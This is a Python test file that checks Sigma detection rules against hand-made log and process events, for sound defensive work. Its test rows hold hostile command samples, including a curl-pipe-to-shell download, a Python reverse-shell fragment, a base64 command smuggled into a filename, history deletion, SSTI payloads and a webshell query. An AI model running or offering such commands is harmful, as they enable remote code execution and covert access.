"""Thirty-odd public rules against events made by hand from reading them.

The rules themselves are not part of this repository: where they are not there, nothing is tested.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import NamedTuple

import pytest
from sigma_rules import ASK, means, selection, taken

from aupkeep.detection.importing.taking import take
from aupkeep.events.schema import KINDS

RULES = Path(__file__).parents[2].parent / "shared" / "data" / "sigma"
Row = dict[str, object]

pytestmark = pytest.mark.skipif(not RULES.is_dir(), reason="the public rules are not here")


class Case(NamedTuple):
    #: How the rule's file is called.
    name: str
    kind: str
    meant: list[Row]
    let_be: list[Row]


def cfg(product: str, log: str = "", **row: object) -> Row:
    return {"product": product, **({"log": log} if log else {}), **row}


CASES = [
    Case(
        "web_ssti_in_access_logs",
        "web",
        [
            {"method": "get", "uri": "/find?name={{7*7}}", "status": 200},
            {"method": "GET", "text": '"GET /a?b=${1+1} HTTP/1.1" 200', "status": 500},
            # A line without a status is none that the filter takes away.
            {"method": "GET", "uri": "/a?b=<%=1%>"},
        ],
        [
            {"method": "POST", "uri": "/find?name={{7*7}}", "status": 200},
            {"method": "GET", "uri": "/find?name={{7*7}}", "status": 404},
            {"method": "GET", "uri": "/find?name=7", "status": 200},
        ],
    ),
    Case(
        "web_win_webshells_in_access_logs",
        "web",
        [{"method": "GET", "uri": "/up/a.php?c=whoami"}],
        [{"method": "POST", "uri": "/up/a.php?c=whoami"}, {"method": "GET", "uri": "/whoami"}],
    ),
    Case(
        "cisco_cli_dot1x_disabled",
        "config",
        [cfg("cisco", "aaa", text="cmd=NO dot1x system-auth-control <cr>")],
        [
            cfg("cisco", "aaa", text="cmd=dot1x system-auth-control <cr>"),
            cfg("juniper", "aaa", text="no dot1x system-auth-control"),
        ],
    ),
    Case(
        "cisco_bgp_md5_auth_failed",
        "config",
        [cfg("cisco", "bgp", text="%IP-TCP-3-BADAUTH: No MD5 digest from 192.0.2.1:179")],
        [cfg("cisco", "bgp", text="%IP-TCP-3-BADAUTH: No MD5 digest from 192.0.2.1:22")],
    ),
    Case(
        "fortinet_fortigate_new_admin_account_created",
        "config",
        [cfg("fortigate", "event", action="Add", path="system.admin")],
        [cfg("fortigate", "event", action="Edit", path="system.admin")],
    ),
    Case(
        "zeek_default_cobalt_strike_certificate",
        "config",
        [cfg("zeek", "x509", certificate_serial="8bb00ee")],
        [cfg("zeek", "x509", certificate_serial="8BB00EF"), cfg("zeek", "x509")],
    ),
    Case(
        "zeek_http_susp_file_ext_from_susp_tld",
        "web",
        [
            {"log": "zeek", "host": "cdn.cheap.top", "uri": "/new/setup.exe"},
            {"log": "zeek", "host": "x.xyz", "uri": "/a", "response_type": "application/x-elf"},
        ],
        [
            {"log": "zeek", "host": "cdn.cheap.example", "uri": "/new/setup.exe"},
            {"log": "zeek", "host": "x.xyz", "uri": "/a.html", "response_type": "text/html"},
        ],
    ),
    Case(
        "zeek_dce_rpc_potential_petit_potam_efs_rpc_call",
        "config",
        [cfg("zeek", "dce_rpc", operation="EfsRpcOpenFileRaw")],
        [cfg("zeek", "dce_rpc", operation="NotEfs"), cfg("zeek", "smb_files", operation="EfsX")],
    ),
    Case(
        "zeek_smb_converted_win_susp_psexec",
        "config",
        [cfg("zeek", "smb_files", path="\\\\srv\\IPC$", object_name="abc-9-stdin")],
        [
            cfg("zeek", "smb_files", path="\\\\srv\\IPC$", object_name="PSEXESVC-9-stdin"),
            cfg("zeek", "smb_files", path="\\\\srv\\data", object_name="abc-9-stdin"),
        ],
    ),
    Case(
        "zeek_dns_kerberos_coercion_via_dns_object_spn_spoofing",
        "dns",
        [{"query": "srv1UWhRCAAAAABAAAAyz.example"}],
        [{"query": "srv1UWhRCA.example"}],
    ),
    Case(
        "zeek_dns_susp_zbit_flag",
        "dns",
        [{"query": "a.test", "reserved": 1, "query_type": "A", "server_port": 53}],
        [
            {"query": "a.test", "reserved": 0, "query_type": "A"},
            {"query": "a.local", "reserved": 1},
            {"query": "a.test", "reserved": 1, "server_port": 137},
            {"query": "nodots", "reserved": 1},
        ],
    ),
    Case(
        "net_dns_susp_txt_exec_strings",
        "dns",
        [{"query_type": "TXT", "answers": "v=1; iex (new-object)"}],
        [{"query_type": "A", "answers": "iex"}, {"query_type": "TXT", "answers": "v=spf1"}],
    ),
    Case(
        "net_firewall_cleartext_protocols",
        "config",
        [
            {"log": "firewall", "dst_port": 21, "action": "accept"},
            {"log": "firewall", "dst_port": 23, "blocked": False},
        ],
        [
            {"log": "firewall", "dst_port": 21, "action": "drop"},
            {"log": "firewall", "dst_port": 23, "blocked": True},
            {"log": "firewall", "dst_port": 443, "action": "accept"},
        ],
    ),
    Case(
        "proc_creation_lnx_crontab_enumeration",
        "process",
        [{"exe": "/usr/bin/crontab", "command_line": "crontab -l"}],
        [
            {"exe": "/usr/bin/crontab", "command_line": "crontab -e"},
            {"exe": "/usr/bin/ls", "command_line": "ls -l"},
        ],
    ),
    Case(
        "proc_creation_lnx_susp_script_interpretor_spawn_credential_scanner",
        "process",
        [
            {"parent_exe": "/usr/bin/node", "exe": "/tmp/gitleaks"},
            {"parent_exe": "/opt/bun", "exe": "/bin/sh", "command_line": "sh -c trufflehog"},
        ],
        [{"parent_exe": "/bin/sh", "exe": "/tmp/gitleaks"}, {"parent_exe": "/usr/bin/node"}],
    ),
    Case(
        "proc_creation_lnx_susp_history_delete",
        "process",
        [
            {"exe": "/bin/rm", "command_line": "rm -f /root/.bash_history x"},
            {"exe": "/usr/bin/shred", "command_line": "shred -u my_history"},
        ],
        [
            {"exe": "/bin/rm", "command_line": "rm notes"},
            {"exe": "/bin/cat", "command_line": "cat my_history"},
        ],
    ),
    Case(
        "proc_creation_lnx_susp_pipe_shell",
        "process",
        [{"command_line": "sh -c curl http://a.test/x | sh"}],
        [{"command_line": "curl http://a.test/x | sh"}, {"command_line": "sh -c ls | cat"}],
    ),
    Case(
        "proc_creation_lnx_susp_interactive_bash",
        "process",
        [
            {"parent_command_line": "bash -i", "command_line": "python -c import os"},
            {"parent_command_line": "bash -i", "exe": "/usr/bin/whoami"},
        ],
        [
            {"parent_command_line": "bash -il", "exe": "/usr/bin/whoami"},
            {"parent_command_line": "bash -i", "exe": "/usr/bin/vi", "command_line": "vi"},
        ],
    ),
    Case(
        "proc_creation_lnx_omigod_scx_runasprovider_executescript",
        "process",
        [
            {
                "user": "root",
                "login_id": "0",
                "cwd": "/var/opt/microsoft/scx/tmp",
                "command_line": "/bin/sh /etc/opt/microsoft/scx/conf/tmpdir/scxA",
            }
        ],
        [
            {
                "user": "root",
                "login_id": "5",
                "cwd": "/var/opt/microsoft/scx/tmp",
                "command_line": "/bin/sh /etc/opt/microsoft/scx/conf/tmpdir/scxA",
            }
        ],
    ),
    Case(
        "proc_creation_lnx_chmod_targeting_sensitive_directories",
        "process",
        [
            {"exe": "/bin/chmod", "command_line": "chmod 777 /tmp/x", "parent_command_line": "sh"},
            # Nothing is known of the parent: the filter does not match, and the rule holds.
            {"exe": "/bin/chmod", "command_line": "chmod 777 /etc/x"},
        ],
        [
            {"exe": "/bin/chmod", "command_line": "chmod 700 /tmp/apt-key-gpghome.9"},
            {
                "exe": "/bin/chmod",
                "command_line": "chmod 644 /etc/x",
                "parent_command_line": "sh /var/lib/dpkg/info/a.postinst configure 1",
            },
            {"exe": "/bin/chmod", "command_line": "chmod 777 /srv/x"},
        ],
    ),
    Case(
        "proc_creation_lnx_python_reverse_shell",
        "process",
        [
            {
                "exe": "/usr/bin/python3",
                "command_line": "python3 -c 'import socket,pty;s.connect(x);pty.spawn(y)'",
            }
        ],
        [{"exe": "/usr/bin/python3", "command_line": "python3 -c 'import socket,pty'"}],
    ),
    Case(
        "proc_creation_lnx_susp_container_residence_discovery",
        "process",
        [{"exe": "/bin/cat", "command_line": "cat /proc/1/cgroup"}],
        [{"exe": "/bin/cat", "command_line": "cat /proc/1/maps"}],
    ),
    Case(
        "file_event_lnx_wget_download_file_in_tmp_dir",
        "file",
        [{"exe": "/usr/bin/wget", "path": "/var/tmp/a"}],
        [{"exe": "/usr/bin/wget", "path": "/home/a"}, {"exe": "/usr/bin/vi", "path": "/tmp/a"}],
    ),
    Case(
        "file_event_lnx_susp_filename_with_embedded_base64_command",
        "file",
        [{"path": "/srv/x/{echo,aGk=}|{base64,-d}|bash"}],
        [{"path": "/srv/x/echo.txt"}],
    ),
    Case(
        "lnx_file_copy",
        "process",
        [{"text": "scp a root@host"}, {"command_line": "rsync x host:/srv"}],
        [{"text": "scp a b"}, {"text": "cp a root@host"}],
    ),
    Case(
        "lnx_auditd_audio_capture",
        "process",
        [
            {"log": "auditd", "record": "EXECVE", "a0": "arecord", "a1": "-vv", "a2": "-fdat"},
            {
                "log": "auditd",
                "record": "SYSCALL",
                "exe": "/usr/bin/ecasound",
                "syscall": "memfd_create",
            },
        ],
        [
            {"log": "auditd", "record": "EXECVE", "a0": "arecord", "a1": "-v", "a2": "-fdat"},
            {"log": "auditd", "record": "SYSCALL", "exe": "/usr/bin/ecasound", "syscall": "open"},
        ],
    ),
    Case(
        "lnx_auditd_susp_discovery_sysinfo_syscall",
        "process",
        [
            {"log": "auditd", "record": "SYSCALL", "syscall": "sysinfo", "exe": "/tmp/x"},
            {"log": "auditd", "record": "SYSCALL", "syscall": "sysinfo"},
        ],
        [
            {
                "log": "auditd",
                "record": "SYSCALL",
                "syscall": "sysinfo",
                "exe": "/opt/splunk/bin/splunkd",
            }
        ],
    ),
    Case(
        "lnx_auditd_find_cred_in_files",
        "process",
        [{"log": "auditd", "record": "EXECVE", "text": "a0=grep a1=-r a2=password"}],
        [
            {"log": "auditd", "record": "EXECVE", "text": "a0=grep a1=-r a2=name"},
            {"log": "auditd", "record": "PATH", "text": "grep password"},
        ],
    ),
    Case(
        "lnx_auditd_systemd_service_creation",
        "process",
        [
            {
                "log": "auditd",
                "record": "PATH",
                "path_type": "CREATE",
                "path": "/etc/systemd/system/x.service",
            }
        ],
        [
            {
                "log": "auditd",
                "record": "PATH",
                "path_type": "NORMAL",
                "path": "/etc/systemd/system/x.service",
            }
        ],
    ),
    Case(
        "net_connection_lnx_ngrok_tunnel",
        "process",
        [{"dst_host": "a.tunnel.eu.ngrok.com"}],
        [{"dst_host": "ngrok.com"}],
    ),
    Case(
        "app_sqlinjection_errors",
        "config",
        [
            cfg("sql", text="ERROR: You have an error in your SQL syntax; check"),
            cfg("sql", text='near "union": syntax error'),
        ],
        [cfg("sql", text="near union: syntax error"), cfg("jvm", text="Unclosed quotation mark")],
    ),
    Case(
        "opencanary_ntp_monlist",
        "config",
        [cfg("opencanary", event_id=11001)],
        [cfg("opencanary", event_id=11002)],
    ),
    Case(
        "rpc_firewall_atsvc_lateral_movement",
        "config",
        [
            cfg(
                "rpc_firewall",
                channel="RPCFW",
                event_id=3,
                interface="1FF70682-0A51-30E8-076D-740BE8CEE98B",
                operation_number=1,
            )
        ],
        [
            cfg(
                "rpc_firewall",
                channel="RPCFW",
                event_id=3,
                interface="1ff70682-0a51-30e8-076d-740be8cee98b",
                operation_number=2,
            )
        ],
    ),
    Case(
        "kubernetes_audit_change_admission_controller",
        "config",
        [
            cfg(
                "kubernetes",
                api_group="admissionregistration.k8s.io",
                object="validatingwebhookconfigurations",
                action="patch",
            )
        ],
        [
            cfg(
                "kubernetes",
                api_group="admissionregistration.k8s.io",
                object="validatingwebhookconfigurations",
                action="get",
            )
        ],
    ),
    Case(
        "kubernetes_audit_potential_enumeration_activity",
        "config",
        [cfg("kubernetes", status="ALLOW", uri="/api/v1/x/exec?command=%2Fbin%2Fsh")],
        [cfg("kubernetes", status="403", uri="/api/v1/x/exec?command=%2Fbin%2Fsh")],
    ),
    Case(
        "bitbucket_audit_user_login_failure_detected",
        "config",
        [cfg("bitbucket", "audit", category="Authentication", action="User login failed")],
        [cfg("bitbucket", "audit", category="Authentication", action="User login")],
    ),
]


def _found(name: str) -> str:
    (path,) = RULES.rglob(f"{name}.yml")
    return path.read_text()


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_rows_made_by_hand(case: Case) -> None:
    rule = selection(taken(_found(case.name)))
    assert rule.kind == case.kind
    assert means(rule, *case.meant) == [True] * len(case.meant)
    assert means(rule, *case.let_be) == [False] * len(case.let_be)
    assert means(rule, {}) == [False]


def test_nearly_every_rule_is_taken_and_the_others_say_why() -> None:
    files = sorted(RULES.rglob("*.yml"))
    outcomes = [one for file in files for one in take(file.read_text(), file.name, ASK)]
    assert len(outcomes) == len(files)
    assert sum(one.taken for one in outcomes) >= 0.98 * len(outcomes)
    assert all(one.reason for one in outcomes)
    lines = (RULES / "index.jsonl").read_text().splitlines()
    listed = {json.loads(line)["id"] for line in lines}
    assert {one.id for one in outcomes} == listed


def test_the_sample_has_every_kind_that_the_rules_are_about() -> None:
    assert {case.kind for case in CASES} == set(KINDS) - {"mail", "login", "flow", "report"}
    assert len(CASES) >= 30
